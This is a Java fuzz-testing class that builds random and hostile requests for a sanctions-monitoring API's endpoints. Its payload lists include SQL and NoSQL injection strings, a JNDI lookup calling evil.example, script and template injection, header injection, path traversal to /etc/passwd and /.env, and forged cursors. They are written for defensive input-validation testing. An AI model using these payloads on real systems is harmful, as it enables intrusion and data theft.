package io.sanctionsmonitor.query;

import io.sanctionsmonitor.model.Category;
import io.sanctionsmonitor.model.Certainty;
import io.sanctionsmonitor.model.DocumentStatus;
import io.sanctionsmonitor.model.Finding;
import io.sanctionsmonitor.model.ReportDocument;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;

/**
 * Seeded random and hostile API requests: well-formed filters over the seeded data mixed with injection strings,
 * huge values, control characters, unicode look-alikes, malformed dates, overflowing limits, repeated and unknown
 * parameters, forged cursors and path tricks. It only makes requests; {@link FuzzOracle} says what each deserves.
 * None of the hostile values spells a Java class or exception name, so such a name in a response is a leak.
 */
public final class FuzzRequests {

    /** One request: method, path and the query parameters in order (a name may repeat). */
    public record FuzzRequest(String method, String path, List<Map.Entry<String, String>> params) {
        public Map<String, List<String>> query() {
            Map<String, List<String>> query = new LinkedHashMap<>();
            for (Map.Entry<String, String> p : params) {
                query.computeIfAbsent(p.getKey(), k -> new ArrayList<>()).add(p.getValue());
            }
            return query;
        }

        public FuzzRequest with(String name, String value) {
            List<Map.Entry<String, String>> more = new ArrayList<>(params);
            more.removeIf(p -> p.getKey().equals(name));
            more.add(Map.entry(name, value));
            return new FuzzRequest(method, path, more);
        }
    }

    /** Values no parameter accepts, or accepts only as plain text: each is an attack on something. */
    static final List<String> HOSTILE = List.of(
            "", " ", "*", "%", "_", "..", "../../etc/passwd", "..%2f..%2f", "%00", "\u0000", "\n", "\r\nX-Injected: 1",
            "' OR '1'='1", "1; DROP TABLE findings; --", "\" OR \"\"=\"", "{\"$ne\":null}", "{\"$gt\":\"\"}",
            "[$ne]=1", "attribute_exists(pk)", "pk = :pk OR begins_with(pk, :x)", "#pk", ":pk", "ITEM#pantsir#2024",
            "STATS", "DOC#", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "{{7*7}}", "%s%s%s%n",
            "null", "undefined", "NaN", "true", "[]", "{}", "__proto__", "constructor", "\u202Eevil", "\uFEFFPRK",
            "PRK\u200B", "ＰＲＫ", "РКК", "\uD83D\uDE00", "\uD800", "\uDC00x", "ǅ", "İ", "ı", "ß", "\t", "\u0085",
            "\u00A0PRK\u00A0");

    private final Random random;
    private final List<Finding> findings;
    private final List<ReportDocument> documents;
    private final List<String> cursors = new ArrayList<>();

    public FuzzRequests(Random random, List<Finding> findings, List<ReportDocument> documents) {
        this.random = random;
        this.findings = List.copyOf(findings);
        this.documents = List.copyOf(documents);
    }

    /** Cursors from earlier answers, reused on other requests (valid for one filter set, foreign to the rest). */
    public void issued(String cursor) {
        if (cursors.size() < 500) {
            cursors.add(cursor);
        } else {
            cursors.set(random.nextInt(cursors.size()), cursor);
        }
    }

    public FuzzRequest next() {
        String method = random.nextInt(20) == 0 ? pick("POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "get",
                "TRACE", "", null, "G\u0000ET", "GET ") : "GET";
        int route = random.nextInt(20);
        String path;
        List<String> names;
        if (route < 11) {
            path = route < 9 ? "/findings" : "/incidents";
            names = List.of("category", "country", "from", "to", "item", "certainty", "source", "since", "until",
                    "document", "limit", "cursor");
        } else if (route < 13) {
            path = "/documents";
            names = List.of("status", "limit", "cursor");
        } else if (route < 15) {
            path = "/documents/" + documentId() + "/findings";
            names = List.of("limit", "cursor");
        } else if (route == 15) {
            path = "/findings/" + findingId();
            names = List.of();
        } else if (route == 16) {
            path = "/documents/" + documentId();
            names = List.of();
        } else if (route == 17) {
            path = pick("/stats", "/openapi.json", "/stats/", "stats");
            names = List.of();
        } else {
            path = hostilePath();
            names = List.of("category", "limit");
        }
        List<Map.Entry<String, String>> params = new ArrayList<>();
        int count = names.isEmpty() ? (random.nextInt(8) == 0 ? 1 : 0) : random.nextInt(Math.min(names.size(), 5) + 1);
        for (int i = 0; i < count; i++) {
            String name = names.isEmpty() || random.nextInt(25) == 0 ? unknownName() : names.get(random.nextInt(names.size()));
            params.add(Map.entry(name, value(name)));
        }
        if (!params.isEmpty() && random.nextInt(30) == 0) {
            Map.Entry<String, String> repeated = params.get(random.nextInt(params.size()));
            params.add(Map.entry(repeated.getKey(), random.nextBoolean() ? repeated.getValue() : value(repeated.getKey())));
        }
        return new FuzzRequest(method, path, params);
    }

    private String value(String name) {
        if (random.nextInt(12) == 0) {
            return hostile();
        }
        return switch (name) {
            case "category" -> random.nextInt(6) == 0 ? pick("ARMS", "ARMS TRANSFER", "arms-transfer", "ARMS_TRANSFER,FINANCIAL",
                    "arms_tranſfer", "ARMS_TRANSFER\u0000", "FINANCIAL\u200B", "ＦＩＮＡＮＣＩＡＬ")
                    : pad(cased(Category.values()[random.nextInt(Category.values().length)].name()));
            case "country", "from", "to" -> random.nextInt(6) == 0 ? pick("PR", "PRKX", "P1K", "prk ", "USA", "xyz", "ПРК",
                    "PRK,RUS", "PRK;RUS", "P%K", "P_K", "PR*")
                    : pad(cased(pick("PRK", "RUS", "CHN", "IRN", "SYR", "UKR", "USA")));
            case "item" -> random.nextInt(5) == 0 ? pick("the", "of and", "-", "?!", "pantsir ".repeat(30),
                    "x".repeat(65), "a".repeat(201), "ракета", "MiG-29", "152MM", "pantsir\u0000vehicle", "pan tsir")
                    : itemWords();
            case "source" -> random.nextInt(5) == 0 ? pick("m".repeat(201), "un  panel   OF experts", "MSMT\u0000", "M S M T",
                    "msmt,ukraine", "Ünïcødé Monitor") : pad(cased(pick("MSMT", "UN Panel of Experts", "South Korea",
                    "United States", "Ukraine", "Nobody")));
            case "certainty" -> random.nextInt(5) == 0 ? pick("certain", "3", "-1", "REPORTED,CONFIRMED", "reportedd", "ALLEGED\u0000")
                    : pad(cased(Certainty.values()[random.nextInt(Certainty.values().length)].label()));
            case "since", "until" -> date();
            case "document" -> random.nextInt(4) == 0 ? pick("ABCDEF0123456789ABCD", "0123456789abcdef012", "0123456789abcdef01234",
                    "0123456789abcdefghij", "*", documentId() + " ") : documentId();
            case "status" -> random.nextInt(5) == 0 ? pick("DONE", "processed,failed", "PROCESS", "FAILED\n")
                    : pad(cased(DocumentStatus.values()[random.nextInt(DocumentStatus.values().length)].name()));
            case "limit" -> pick("1", "2", "3", "5", "25", "100", "0", "101", "-1", "007", "0000000005", "2147483647",
                    "2147483648", "99999999999999999999", "1e2", "0x10", "5 ", " 5", "+5", "1.5", "١٢", "５", "10,20");
            case "cursor" -> cursor();
            default -> random.nextBoolean() ? "1" : hostile();
        };
    }

    private String cursor() {
        if (!cursors.isEmpty() && random.nextInt(3) > 0) {
            String c = cursors.get(random.nextInt(cursors.size()));
            return switch (random.nextInt(8)) {
                case 0 -> c.substring(0, random.nextInt(c.length())); // truncated
                case 1 -> flip(c); // tampered
                case 2 -> c + "." + c; // two signatures
                case 3 -> c.substring(c.indexOf('.') + 1) + "." + c.substring(0, c.indexOf('.')); // swapped halves
                case 4 -> java.util.Base64.getUrlEncoder().withoutPadding().encodeToString(
                        "{\"pk\":\"STATS\",\"sk\":\"\"}".getBytes(java.nio.charset.StandardCharsets.UTF_8))
                        + c.substring(c.indexOf('.')); // forged position under a real signature
                default -> c; // genuine: valid only for the filter set it was issued for
            };
        }
        return pick("", ".", "..", "abc.def", "eyJwayI6IlNUQVRTIn0.", "eyJwayI6IlNUQVRTIn0.AAAA", "A".repeat(2049),
                "A".repeat(1000) + "." + "B".repeat(43), "%2E", "====.====", "null", hostile());
    }

    private String flip(String c) {
        char[] chars = c.toCharArray();
        int i = random.nextInt(chars.length);
        chars[i] = chars[i] == 'A' ? 'B' : 'A';
        return new String(chars);
    }

    private String date() {
        return switch (random.nextInt(3)) {
            case 0 -> pad(String.valueOf(2018 + random.nextInt(9)));
            case 1 -> String.format("%04d-%02d", 2018 + random.nextInt(9), 1 + random.nextInt(12));
            default -> pick("2024-03-15", "2024-02-29", "2023-02-29", "2024-13", "2024-00", "2024-02-30", "24", "2024/03",
                    "2024-3", "２０２４", "2024-03-15T00:00:00Z", "-2024", "+2024", "99999", "0000", "9999-12", "9999-12-31",
                    "0000-01-01", "2024-03-15 ", "2024-W10", "20240315", "2024–03", "١٩٩٩");
        };
    }

    private String itemWords() {
        Finding f = findings.get(random.nextInt(findings.size()));
        List<String> words = ItemWords.of(f.items().get(random.nextInt(f.items().size())));
        if (words.isEmpty() || random.nextInt(6) == 0) {
            return pick("pantsir", "unknownword", "coal", "MiG 29", "152mm shells");
        }
        String w = words.get(random.nextInt(words.size()));
        return random.nextInt(4) == 0 && words.size() > 1 ? cased(String.join(pick(" ", "-", ", ", "  "), words)) : cased(w);
    }

    private String documentId() {
        if (random.nextInt(4) == 0) {
            return pick("0123456789abcdef0123", "../findings", "..", "%2e%2e", "*", "ABCDEF0123456789ABCD", "x".repeat(3000),
                    "0123456789abcdef0123%00", "{id}", "$default", "\u0000");
        }
        return documents.get(random.nextInt(documents.size())).id();
    }

    private String findingId() {
        if (random.nextInt(4) == 0) {
            String doc = documents.get(random.nextInt(documents.size())).id();
            return pick(doc + "-9999", doc + "-0000-0000", doc, doc + "-", "-0001", doc.toUpperCase(Locale.ROOT) + "-0001",
                    doc + "-00001", doc + "-1", "*", "x".repeat(5000), doc + "-0001%20", "..");
        }
        return findings.get(random.nextInt(findings.size())).id();
    }

    private String hostilePath() {
        return pick("/", "", "//findings", "/findings/../stats", "/FINDINGS", "/findings.json", "/findings;jsessionid=1",
                "/findings%2F", "/%66indings", "/documents//findings", "/documents/../../etc/passwd", "/stats/../openapi.json",
                "/findings/" + "a".repeat(10_000), "/\u0000", "/findings/\uD800", "/docs", "/openapi.yaml", "/.env",
                "/prod/findings", "/actuator/health", "/findings?x=1", "findings", "/findings/*", "/findings/%2A",
                "/documents/*/findings", "/stats/extra", "/" + "../".repeat(200));
    }

    private String unknownName() {
        return pick("categories", "Category", "CATEGORY", "$where", "__proto__", "constructor", "sort", "select",
                "fields", "", " ", "limit[]", "item[$ne]", "category ", "cursor\u0000", "callback", "format", "debug",
                "x".repeat(100), "ünknown", "page");
    }

    private String hostile() {
        return random.nextInt(15) == 0 ? pick(() -> "A".repeat(100_000), () -> "\u0000".repeat(5000),
                () -> "%".repeat(3000), () -> "\uD83D\uDE00".repeat(3000)) : HOSTILE.get(random.nextInt(HOSTILE.size()));
    }

    private String cased(String s) {
        return switch (random.nextInt(4)) {
            case 0 -> s.toLowerCase(Locale.ROOT);
            case 1 -> s.toUpperCase(Locale.ROOT);
            default -> s;
        };
    }

    private String pad(String s) {
        return random.nextInt(8) == 0 ? pick(" ", "\t", "  ") + s + pick("", " ", "\n") : s;
    }

    private String pick(String... options) {
        return options[random.nextInt(options.length)];
    }

    @SafeVarargs
    private String pick(Supplier<String>... options) {
        return options[random.nextInt(options.length)].get();
    }
}
